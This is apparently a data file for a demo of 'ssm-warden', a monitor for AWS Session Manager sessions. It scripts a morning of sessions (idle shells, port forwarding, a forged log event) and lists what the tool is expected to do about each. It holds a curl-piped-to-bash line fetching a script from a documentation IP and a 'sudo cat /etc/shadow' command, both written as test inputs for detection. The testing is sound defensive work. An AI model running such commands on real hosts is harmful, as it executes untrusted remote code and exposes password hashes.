"""The scripted morning: who does what, when, and what ssm-warden must have done about it.

Data only. ``play.py`` carries the steps out through the local stack; ``report.py`` checks the
expectations against what is there afterwards (the session in Session Manager, the ledger, the audit
trail, the Slack messages). The policy is the bundled default (docs/policy.md): ``prod`` hosts are
strict (a reason required, no port forwarding, high findings terminate, 15 idle minutes), ``dev``
hosts relaxed (30 idle minutes, high findings alert).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ssm_warden_local.demo.harness import Person

DEV_PROMPT = "[dana@dev-web-1 orders]$ "

# Hosts: name -> tags (the name tag too). Each becomes an EC2 instance in moto.
HOSTS: dict[str, dict[str, str]] = {
    "dev-web-1": {"Name": "dev-web-1", "Environment": "dev"},
    "prod-api-1": {"Name": "prod-api-1", "Environment": "prod"},
    "prod-db-bastion": {"Name": "prod-db-bastion", "Environment": "prod"},
    "prod-payments-1": {"Name": "prod-payments-1", "Environment": "prod"},
}

DANA = Person("dana", "Developer")
ERIN = Person("erin", "Admin")
BOB = Person("bob", "DBA")
MALLORY = Person("mallory", "Contractor")
CAROL = Person("carol", "Developer")
FRANK = Person("frank", "Admin")
GRACE = Person("grace", "Admin")
HEIDI = Person("heidi", "Admin")

CURL_BASH = "curl -s http://203.0.113.9/cleanup.sh | bash"


# ---------------------------------------------------------------------------------------------------
# Steps


@dataclass(frozen=True)
class Start:
    """``aws ssm start-session``: a session opens in Session Manager and CloudTrail records it."""

    scenario: str
    person: Person
    host: str
    reason: str | None = None
    document: str | None = None
    parameters: dict[str, list[str]] = field(default_factory=dict)


@dataclass(frozen=True)
class Denied:
    """A StartSession that IAM refuses: CloudTrail records the error, no session opens."""

    scenario: str
    person: Person
    host: str


@dataclass(frozen=True)
class Output:
    """The session's terminal shows these lines; the agent streams them to CloudWatch Logs."""

    scenario: str
    lines: tuple[str, ...]


@dataclass(frozen=True)
class Forge:
    """Someone on ``host`` (where ``person`` has a shell) writes ``lines`` into the log stream of
    ``scenario``'s session with PutLogEvents, as any instance that streams sessions can (aws-facts §7):
    the event claims the victim's session id, but the forger's own host and identity."""

    scenario: str
    host: str
    person: Person
    lines: tuple[str, ...]


@dataclass(frozen=True)
class Exit:
    """The session ends from the host (``exit``, the command finished): no API call, no event."""

    scenario: str


@dataclass(frozen=True)
class Deployment:
    """The deployment's FORCE_MONITOR_MODE changes (a redeploy with ForceMonitorMode)."""

    force_monitor: bool


@dataclass(frozen=True)
class Step:
    at: str  # "mm:ss" from the start of the morning
    do: Start | Denied | Output | Forge | Exit | Deployment

    @property
    def seconds(self) -> int:
        minutes, seconds = self.at.split(":")
        return int(minutes) * 60 + int(seconds)


# ---------------------------------------------------------------------------------------------------
# Expectations


@dataclass(frozen=True)
class SlackExpectation:
    channel: str
    contains: str  # case-insensitive, in a message about the scenario (its text or blocks)


@dataclass(frozen=True)
class Expect:
    aws_status: str | None  # the session's status in Session Manager; None: no session was opened
    ledger_state: str  # active | terminated | ended | denied (a denied-attempt record)
    ended_by: str | None = None  # who ended it, as the ledger says ("ssm-warden")
    terminated_for: str | None = None  # the rule or limit of ssm-warden's termination
    end_reason_contains: str | None = None
    audit: tuple[str, ...] = ()  # decisions that must be in the session's audit trail
    audit_absent: tuple[str, ...] = ()  # decisions that must not be there
    slack: tuple[SlackExpectation, ...] = ()
    slack_absent: tuple[str, ...] = ()  # text no message about the scenario may contain


@dataclass(frozen=True)
class Scenario:
    key: str
    title: str
    expect: Expect


SCENARIOS: list[Scenario] = [
    Scenario(
        "idle",
        "A dev shell goes idle: warned, then terminated",
        Expect(
            aws_status="Terminated",
            ledger_state="terminated",
            ended_by="ssm-warden",
            terminated_for="idle_minutes",
            audit=("warning", "termination"),
            slack=(
                SlackExpectation("#ssm-warden", "idle limit approaching"),
                SlackExpectation("#ssm-warden", "idle limit reached"),
            ),
        ),
    ),
    Scenario(
        "curl-bash",
        "curl piped into bash on a prod host: terminated",
        Expect(
            aws_status="Terminated",
            ledger_state="terminated",
            ended_by="ssm-warden",
            terminated_for="download-pipe-to-shell",
            audit=("finding", "termination"),
            slack=(
                SlackExpectation("#prod-security", "download piped into a shell"),
                SlackExpectation("#prod-security", "terminated"),
            ),
            slack_absent=("would terminate",),
        ),
    ),
    Scenario(
        "port-forward",
        "Port forwarding to a prod database, which the policy forbids: terminated",
        Expect(
            aws_status="Terminated",
            ledger_state="terminated",
            ended_by="ssm-warden",
            terminated_for="document_not_allowed",
            audit=("termination",),
            slack=(SlackExpectation("#prod-security", "AWS-StartPortForwardingSessionToRemoteHost"),),
        ),
    ),
    Scenario(
        "denied",
        "A denied StartSession on a prod host: alerted",
        Expect(
            aws_status=None,
            ledger_state="denied",
            audit=("alert",),
            slack=(SlackExpectation("#prod-security", "denied startsession"),),
        ),
    ),
    Scenario(
        "interactive",
        "An interactive-command session running a risky command: alerted (dev alerts on high)",
        Expect(
            aws_status="Terminated",  # the command finished and the agent closed the session
            ledger_state="ended",
            end_reason_contains="without TerminateSession",
            audit=("finding", "alert"),
            audit_absent=("termination",),
            slack=(SlackExpectation("#ssm-warden", "/etc/shadow"),),
        ),
    ),
    Scenario(
        "exit",
        "A session ends with `exit` (no TerminateSession event): closed by reconciliation",
        Expect(
            aws_status="Terminated",
            ledger_state="ended",
            end_reason_contains="without TerminateSession",
            audit=("session",),
            audit_absent=("termination", "finding"),
        ),
    ),
    Scenario(
        "forged",
        "A forged curl | bash from a dev host in a prod admin's log stream: refused and reported, "
        "the admin's session lives on",
        Expect(
            aws_status="Connected",
            ledger_state="active",
            audit=("session",),  # the refusal, on the victim's own trail
            audit_absent=("termination", "finding"),
            slack=(SlackExpectation("#prod-security", "forged session-log event refused"),),
        ),
    ),
    Scenario(
        "monitor",
        'The same prod curl | bash in monitor mode: "would terminate", the session lives on',
        Expect(
            aws_status="Connected",
            ledger_state="active",
            audit=("finding", "would_terminate"),
            audit_absent=("termination",),
            slack=(SlackExpectation("#prod-security", "would terminate"),),
        ),
    ),
]

MORNING: list[Step] = [
    # Dana opens a shell on a dev host, looks around, and leaves it open.
    Step("00:00", Start("idle", DANA, "dev-web-1")),
    Step(
        "00:05",
        Output(
            "idle",
            (
                "sh-4.2$ sh-4.2$ cd /srv/orders && sudo -u dana bash",
                f"{DEV_PROMPT}git log --oneline -2",
                "a1b2c3d Round totals half-even",
                "9f8e7d6 Retry the payment webhook",
            ),
        ),
    ),
    # Erin investigates a full disk on a prod host and runs a clean-up script straight from the web.
    Step("02:00", Start("curl-bash", ERIN, "prod-api-1", reason="INC-5102 /var almost full")),
    Step(
        "02:10",
        Output(
            "curl-bash",
            (
                "sh-4.2$ sh-4.2$ df -h /var",
                "Filesystem      Size  Used Avail Use% Mounted on",
                "/dev/nvme1n1     50G   48G  2.0G  96% /var",
            ),
        ),
    ),
    Step("02:40", Output("curl-bash", (f"sh-4.2$ {CURL_BASH}",))),
    # Bob opens a tunnel to the orders database through the prod bastion.
    Step(
        "04:00",
        Start(
            "port-forward",
            BOB,
            "prod-db-bastion",
            reason="INC-5103 slow queries",
            document="AWS-StartPortForwardingSessionToRemoteHost",
            parameters={
                "host": ["orders.cluster-c1x2.us-east-1.rds.amazonaws.com"],
                "portNumber": ["5432"],
                "localPortNumber": ["15432"],
            },
        ),
    ),
    # Mallory, a contractor, tries a prod payments host and is refused by IAM.
    Step("06:00", Denied("denied", MALLORY, "prod-payments-1")),
    # Carol runs one command on a dev host through AWS-StartInteractiveCommand; it finishes quickly.
    Step(
        "08:00",
        Start(
            "interactive",
            CAROL,
            "dev-web-1",
            document="AWS-StartInteractiveCommand",
            parameters={"command": ["sudo cat /etc/shadow"]},
        ),
    ),
    Step("08:05", Exit("interactive")),
    # Frank restarts a worker on a prod host and types exit.
    Step("10:00", Start("exit", FRANK, "prod-api-1", reason="CHG-771 restart the orders worker")),
    Step(
        "10:10",
        Output(
            "exit",
            (
                "sh-4.2$ sh-4.2$ sudo systemctl restart orders-worker",
                "sh-4.2$ systemctl is-active orders-worker",
                "active",
                "sh-4.2$ exit",
                "exit",
            ),
        ),
    ),
    Step("10:12", Exit("exit")),
    # Heidi, a prod admin, opens a shell on the payments host. Someone on Dana's dev host writes a
    # download-and-execute line into Heidi's log stream (its sessionId is Heidi's; its target and
    # user are the dev host's and Dana's): it is refused and reported, and Heidi's session lives.
    Step("25:00", Start("forged", HEIDI, "prod-payments-1", reason="INC-5120 card batch stuck")),
    Step("25:10", Output("forged", ("sh-4.2$ sh-4.2$ systemctl status card-batch", "active (running)"))),
    Step("25:30", Forge("forged", "dev-web-1", DANA, (f"sh-4.2$ {CURL_BASH}",))),
    # Dana's shell has printed nothing since 00:05: warned at 26:00, terminated at 31:00.
    # The team redeploys with ForceMonitorMode=true (a first rollout elsewhere) and Grace repeats
    # Erin's mistake: this time ssm-warden only says what it would have done.
    Step("32:00", Deployment(force_monitor=True)),
    Step("33:00", Start("monitor", GRACE, "prod-api-1", reason="INC-5110 log rotation")),
    Step("33:10", Output("monitor", ("sh-4.2$ sh-4.2$ ls /var/log/orders | wc -l", "18211"))),
    Step("33:30", Output("monitor", (f"sh-4.2$ {CURL_BASH}", "cleanup: removed 18000 files"))),
]

# The morning ends here (every scheduled sweep up to it has run).
END = "35:00"
